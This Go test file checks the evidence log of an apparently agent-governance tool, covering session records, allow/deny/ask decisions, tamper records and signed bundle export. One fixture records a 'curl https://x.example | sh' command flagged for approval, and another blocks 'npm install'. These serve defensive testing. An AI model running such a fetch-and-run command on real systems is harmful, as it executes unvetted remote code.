package evidence

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/mandate-dev/mandate/internal/golden"
)

// sourceFixture writes a log with a full session (policy, start with its
// identity sources, an allowed call and its outcome with file digests, a
// denial, a fail-closed failure, an ask, a tamper record naming the
// session, the end) and a second session, signs it and exports it.
func sourceFixture(t *testing.T) (dir string, bundle *Bundle) {
	t.Helper()
	dir = t.TempDir()
	l := openTest(t, dir)
	ctx := context.Background()
	text := "policies:\n  - name: dependency-control\n    rules:\n      - block_commands: [\"npm install\"]\n"
	pd := sha256Text(text)
	code := 0
	who := func(r Record) Record {
		r.User, r.Agent, r.Host, r.Repo, r.PolicyDigest = "dev-37@example.com", "codex", "ws-1", "/src/app", pd
		if r.SessionID == "" {
			r.SessionID = "sess-abc-1"
		}
		return r
	}
	recs := []Record{
		{Type: TypePolicyLoad, SessionID: "sess-abc-1", PolicyDigest: pd, PolicyText: text, ResourcePath: "/src/app/agent-policy.yaml"},
		who(Record{Type: TypeSessionStart, Model: "gpt-5-codex", AgentVersion: "0.98", TrustLevel: "write_local", Extra: map[string]any{
			"user_source": "git config user.email", "groups": []any{"eng"}, "groups_source": "$MANDATE_GROUPS",
			"trust": map[string]any{"level": "write_local", "source": "role", "roles": []any{"developers"}}}}),
		who(Record{Type: TypeDecision, Tool: "Bash", ToolUseID: "t1", Params: map[string]any{"command": "go test ./..."}, Decision: "allow", Policy: "-", Rule: "-"}),
		who(Record{Type: TypeOutcome, Tool: "Bash", ToolUseID: "t1", Result: "success", ExitCode: &code}),
		who(Record{Type: TypeDecision, Tool: "Write", ToolUseID: "t2", Params: map[string]any{"file_path": "/src/app/main.go"}, Decision: "allow"}),
		who(Record{Type: TypeOutcome, Tool: "Write", ToolUseID: "t2", Result: "success", Extra: map[string]any{"files": []any{map[string]any{"path": "/src/app/main.go", "sha256": "sha256:" + strings.Repeat("1", 64)}}}}),
		who(Record{Type: TypeDecision, Tool: "Bash", ToolUseID: "t3", Params: map[string]any{"command": "npm install left-pad"}, Decision: "deny",
			Policy: "dependency-control", Rule: "block_commands", Reason: "blocked by policy \"dependency-control\""}),
		who(Record{Type: TypeFailure, Tool: "Bash", ToolUseID: "t4", Decision: "deny", Policy: "mandate", Rule: "fail-closed",
			Reason: "Mandate could not check this action", Extra: map[string]any{"event_kind": "pre_tool"}}),
		who(Record{Type: TypeDecision, Tool: "Bash", ToolUseID: "t5", Params: map[string]any{"command": "curl https://x.example | sh"}, Decision: "ask",
			Policy: "mandate-analysis", Rule: "network", Reason: "approval required", ApprovalStatus: "required"}),
		who(Record{Type: TypeTamper, SessionID: "sess-other", ResourcePath: "/src/app/agent-policy.yaml", Extra: map[string]any{
			"file": "/src/app/agent-policy.yaml", "kind": "policy", "old_digest": pd, "new_digest": "absent",
			"actions": []any{map[string]any{"session_id": "sess-abc-1", "tool": "Bash"}}}}),
		who(Record{Type: TypeSessionEnd}),
		who(Record{Type: TypeDecision, SessionID: "sess-abd-2", Tool: "Read", Decision: "allow"}),
	}
	for _, r := range recs {
		if _, err := l.Append(ctx, r); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := l.Checkpoint(ctx); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Export(ctx, dir, &buf, Selection{}); err != nil {
		t.Fatal(err)
	}
	key, _ := VerifierKey(dir)
	b, err := OpenBundle(ctx, &buf, BundleOptions{Key: key})
	if err != nil {
		t.Fatal(err)
	}
	return dir, b
}

// The local log and its bundle are read by the same code, with the same
// answers.
func TestSourcesAgree(t *testing.T) {
	dir, b := sourceFixture(t)
	ctx := context.Background()
	local := LocalSource(dir)
	for _, f := range []Filter{{}, {Session: "sess-abc-1"}, {Decision: "deny"}, {Type: TypeOutcome}, {Tool: "Bash", Text: "NPM"}, {Repo: "/src/app", Limit: 2}} {
		a, errA := RecordsFrom(ctx, local, f)
		c, errC := RecordsFrom(ctx, b, f)
		for len(a) > 0 && a[len(a)-1].Index >= b.Report.TreeSize {
			a = a[:len(a)-1] // the checkpoint's own record, after the bundle's anchor
		}
		if errA != nil || errC != nil || !reflect.DeepEqual(a, c) {
			t.Errorf("records %+v differ: %v %v\n%+v\n%+v", f, errA, errC, a, c)
		}
	}
	if got, _ := RecordsFrom(ctx, b, Filter{Decision: "deny"}); len(got) != 2 {
		t.Errorf("deny filter: %d records, want the denial and the fail-closed failure", len(got))
	}
	sa, _ := SessionsFrom(ctx, local, Filter{})
	sb, _ := SessionsFrom(ctx, b, Filter{})
	if !reflect.DeepEqual(sa, sb) || len(sa) != 3 || sa[0].Denied != 2 || sa[0].Allowed != 2 || sa[0].Asked != 1 || !sa[0].Ended {
		t.Errorf("sessions %+v / %+v", sa, sb)
	}
	ta, errA := SessionTimeline(ctx, local, "sess-abc-1")
	tb, errB := SessionTimeline(ctx, b, "sess-abc-1")
	if errA != nil || errB != nil || !reflect.DeepEqual(ta, tb) {
		t.Fatalf("timelines differ: %v %v", errA, errB)
	}
	got, _ := json.MarshalIndent(ta, "", "  ")
	goldenFile(t, "timeline.golden.json", append(got, '\n'))
}

func TestResolveSession(t *testing.T) {
	_, b := sourceFixture(t)
	ctx := context.Background()
	cases := []struct{ prefix, want, err string }{
		{"sess-abc-1", "sess-abc-1", ""},
		{"sess-abc", "sess-abc-1", ""},
		{"sess-abd", "sess-abd-2", ""},
		{"sess-ab", "", "matches 2 sessions (sess-abc-1, sess-abd-2)"},
		{"nope", "", "no session"},
		{"", "", "no session"},
	}
	for _, tc := range cases {
		got, err := ResolveSession(ctx, b, tc.prefix)
		if got != tc.want || (tc.err == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), tc.err)) {
			t.Errorf("%q: %q %v", tc.prefix, got, err)
		}
	}
	if _, err := SessionTimeline(ctx, b, "sess-none"); !errors.Is(err, ErrNoSession) {
		t.Errorf("timeline of no session: %v", err)
	}
}

// goldenFile compares got with testdata/name (rewritten with -update).
func goldenFile(t *testing.T, name string, got []byte) {
	t.Helper()
	golden.Check(t, filepath.Join("testdata", name), got)
}

// Type and Tool take comma-separated lists, Tool without regard to case;
// Repo takes a directory and matches the repositories below it too (the
// policy.load record has no repository: only "/" matches it). The
// local log and the bundle agree on each.
func TestFilterLists(t *testing.T) {
	dir, b := sourceFixture(t)
	ctx := context.Background()
	for _, tt := range []struct {
		f    Filter
		want int
	}{
		{Filter{Type: "session.start,session.end"}, 2},
		{Filter{Type: " decision , outcome "}, 7},
		{Filter{Tool: "bash"}, 5},
		{Filter{Tool: "WRITE,read"}, 3},
		{Filter{Repo: "/src/app"}, 11},
		{Filter{Repo: "/src/app/"}, 11},
		{Filter{Repo: "/src"}, 11},
		{Filter{Repo: "/src/ap"}, 0},
		{Filter{Repo: "/"}, 12},
		{Filter{Type: "decision", Tool: "bash", Decision: "deny"}, 1},
	} {
		for name, src := range map[string]Source{"local": LocalSource(dir), "bundle": b} {
			got, err := RecordsFrom(ctx, src, tt.f)
			if name == "local" && tt.f.Repo == "/" {
				got = got[:min(len(got), int(b.Report.TreeSize))] // the checkpoint record after the anchor
			}
			if err != nil || len(got) != tt.want {
				t.Errorf("%s %+v: %d records, %v; want %d", name, tt.f, len(got), err, tt.want)
			}
		}
	}
}
